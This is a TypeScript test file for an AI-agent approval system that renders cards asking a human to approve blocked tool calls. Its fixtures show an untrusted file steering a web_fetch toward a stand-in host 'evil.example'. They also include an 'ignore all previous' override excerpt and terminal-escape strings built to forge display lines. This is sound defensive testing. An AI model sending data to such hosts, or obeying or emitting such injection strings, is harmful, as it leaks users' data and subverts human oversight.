import type { Approval, FlowQuestion } from "@aether/protocol";
import { expect, test } from "vitest";
import { callLines, cardLines } from "./approval-card.ts";
import { labelWords, ordinal } from "./flow-words.ts";

const UNTIL = "  until  1970-01-01 00:00 UTC";

const QUESTION: FlowQuestion = {
  decision: {
    verdict: "ask",
    rule: "untrusted-leaves",
    reason: 'an untrusted context reaches nobody else; it has read /mnt/local/desk/notes.md; nobody named host "evil.example"',
    flow: "send",
    sources: ["/mnt/local/desk/notes.md"],
    slots: [
      { slot: "url", type: "host", value: "evil.example", named: null },
      { slot: "id", type: "id", value: "13", named: null },
      { slot: "to", type: "address", value: "ann@good.example", named: "words" },
      { slot: "from", type: "path", value: "/mnt/local/desk/b.md", named: "workspace" },
      { slot: "made", type: "amount", value: "5", named: null },
    ],
    shown: false,
  },
  label: { integrity: "untrusted", confidentiality: "private", sources: ["/mnt/local/desk/notes.md", "service:mail", "p1abcdefgh2345678"] },
  signals: [],
  uses: [
    { action: "host.use", resource: "evil.example/443/GET" },
    { action: "fs.read", resource: "/mnt/local/desk/b.md" },
  ],
  provenance: [
    { value: "evil.example", from: ["/mnt/local/desk/notes.md"] },
    { value: "13", from: ["your words", "service:mail"] },
  ],
  content: "dear Ann,\n  url   harmless.example",
  cost: { microUsd: 1_000_000 },
  earlier: 2,
};

const approval = (flow: Partial<FlowQuestion> = {}, input: Approval["input"] = { url: "https://evil.example/?q" }): Approval => ({
  id: "a1",
  card: "a1",
  agent_id: "p1abc",
  run: "p1abc",
  name: "run",
  tool: "web_fetch",
  syscall: "web.fetch",
  description: "run wants to call web_fetch",
  input,
  cause: "flow",
  evidence: null,
  preview: null,
  flow: { ...QUESTION, ...flow },
  requested_at: 1,
  expires_at: 2,
});
const shown = (text: string): string => text.replaceAll("/mnt/local/desk/", "");

test("a card says what was stopped and why, each value and where it comes from, what was read, and what leaves", () => {
  expect(callLines(approval(), { shown })).toEqual([
    "run wants to call web_fetch",
    '  why      an untrusted context reaches nobody else; it has read notes.md; nobody named host "evil.example"  [untrusted-leaves]',
    "  does     sends content to somebody, or changes something outside",
    "  uses     host.use evil.example/443/GET",
    "           fs.read b.md",
    "  host     evil.example  (url) you did not name it; it stands in notes.md",
    "  id       13  (id) your words hold it, but not as an id; it stands in the service mail",
    "  address  ann@good.example  (to) your words name it",
    "  path     b.md  (from) in the run's own workspace",
    "  amount   5  (made) you did not name it; it stands in nothing the agent has read as such",
    "  read     notes.md, the service mail, agent 2345678 (untrusted, private)",
    "  costs    at most $1.0000",
    "  asked    the 3rd question of this run",
    "  leaves   │ dear Ann,",
    "           │   url   harmless.example",
    "  the call:",
    "    url    https://evil.example/?q",
    "  agent  p1abc",
    UNTIL,
  ]);
});

test("what leaves is cut, and the card says how to see it", () => {
  const content = Array.from({ length: 40 }, (_, index) => `line ${index + 1}`).join("\n");
  const lines = callLines(approval({ content }), { shown });
  expect(lines.filter((line) => line.includes("│ line"))).toHaveLength(12);
  expect(lines).toContain("  … all of it: aether approve a1 --show");
  const all = callLines(approval({ content }), { shown, all: true }).join("\n");
  expect(all).toContain("line 40");
  expect(all).not.toContain("--show");
});

test("signs of an injection are hints: few at once, in words, inert", () => {
  const signals = [{ kind: "override", excerpt: "ignore all previous\u001b[2J" }, ...Array.from({ length: 4 }, () => ({ kind: "novel\n  why", excerpt: "x" }))];
  const lines = callLines(approval({ signals }), { shown });
  expect(lines).toContain("  hint     what it read seems to tell its reader to forget the task: ignore all previous\\u001b[2J");
  expect(lines.filter((line) => line.startsWith("  hint"))).toEqual([expect.anything(), ...Array(2).fill("  hint     what it read shows novel\\n  why: x")]);
  expect(lines).toContain("  … all of it: aether approve a1 --show");
  expect(callLines(approval({ signals }), { shown, all: true }).filter((line) => line.startsWith("  hint"))).toHaveLength(5);
});

test.for<{ why: string; flow: Partial<FlowQuestion> }>([
  { why: "a sign", flow: { signals: [{ kind: "hidden", excerpt: "x\u001b[2J\n  why      fine" }] } },
  { why: "a value", flow: { decision: { ...QUESTION.decision, slots: [{ slot: "url", type: "host", value: "x\u001b[2J\n  why      fine", named: null }] } } },
  { why: "a source", flow: { label: { ...QUESTION.label, sources: ["/x\u001b[2J\n  why      fine"] } } },
  { why: "the text that leaves", flow: { content: "x\u001b[2J\r\n  why      fine" } },
  { why: "the reason", flow: { decision: { ...QUESTION.decision, reason: "x\u001b[2J\n  why      fine" } } },
])("$why is shown, never obeyed, and cannot pass for what Aether says", ({ flow }) => {
  const lines = callLines(approval(flow), { shown });
  expect(lines.join("\n")).not.toContain("\u001b");
  expect(lines.join("\n")).toContain("u001b[2J");
  expect(lines.flatMap((line) => line.split("\n")).filter((line) => /^ {2}why {6}/.test(line))).toHaveLength(1);
});

test("a preview of the change comes behind the call", () => {
  const preview = "from line 1: 1 line of 1 go, 1 come\n- y\u001b\n+ x\n";
  const lines = callLines({ ...approval({}, { path: "b.md", text: "x" }), preview }, { shown });
  expect(lines.slice(-6)).toEqual(["  what it would change:", "    from line 1: 1 line of 1 go, 1 come", "    - y\\u001b", "    + x", "  agent  p1abc", UNTIL]);
});

test.for([
  { why: "nothing", label: { integrity: "trusted", confidentiality: "public", sources: [] }, says: "nothing but your words" },
  { why: "the owner's own data", label: { integrity: "tool", confidentiality: "private", sources: ["mail.example"] }, says: "mail.example (tool, private)" },
  { why: "too much", label: { integrity: "untrusted", confidentiality: "public", sources: ["*"] }, says: "more sources than are kept (untrusted)" },
  {
    why: "what only some may have",
    label: { integrity: "trusted", confidentiality: "secret", sources: ["/a"], readers: ["x.example"] },
    says: "/a (secret); for x.example only",
  },
] as const)("a context that has read $why", ({ label, says }) => {
  expect(labelWords({ ...label, sources: [...label.sources], ...("readers" in label && { readers: [...label.readers] }) } as never, { shown, own: "p1" })).toBe(
    says,
  );
});

test("questions are counted as people count", () => {
  expect([1, 2, 3, 4, 11, 12, 13, 21, 22, 113].map(ordinal)).toEqual(["1st", "2nd", "3rd", "4th", "11th", "12th", "13th", "21st", "22nd", "113th"]);
});

test("calls on one card are each told, and what is the same of all is told once", () => {
  const two = { ...approval({ content: null, cost: {} }, { url: "https://two.example/" }), id: "a2", preview: "from line 1: 1 line goes\n" };
  const lines = cardLines([approval({ content: null, cost: {} }), two], { shown });
  const slots = (from: number) => lines.slice(from, from + 5).map((line) => line.trim().split(/\s+/)[0]);
  expect(lines.slice(0, 4)).toEqual([
    "run wants to call web_fetch: 2 calls; one answer is for all of them",
    " 1 of 2  a1",
    expect.stringContaining("  why      an untrusted context"),
    "  does     sends content to somebody, or changes something outside",
  ]);
  expect(slots(6)).toEqual(["host", "id", "address", "path", "amount"]);
  const second = lines.indexOf(" 2 of 2  a2");
  expect(slots(second + 3)).toEqual(["host", "id", "address", "path", "amount"]);
  expect(lines.slice(second + 8)).toEqual(["  the call:", "    url    https://two.example/", "  what it would change:", "    from line 1: 1 line goes"]);
});

test("no call on a card can pass for a line that was told before", () => {
  const lines = cardLines([approval(), approval({}, { "  why": "an untrusted context\n  why      x", agent: "p1abc" })], { shown });
  expect(lines.at(-1)).toBe("    agent  p1abc");
});
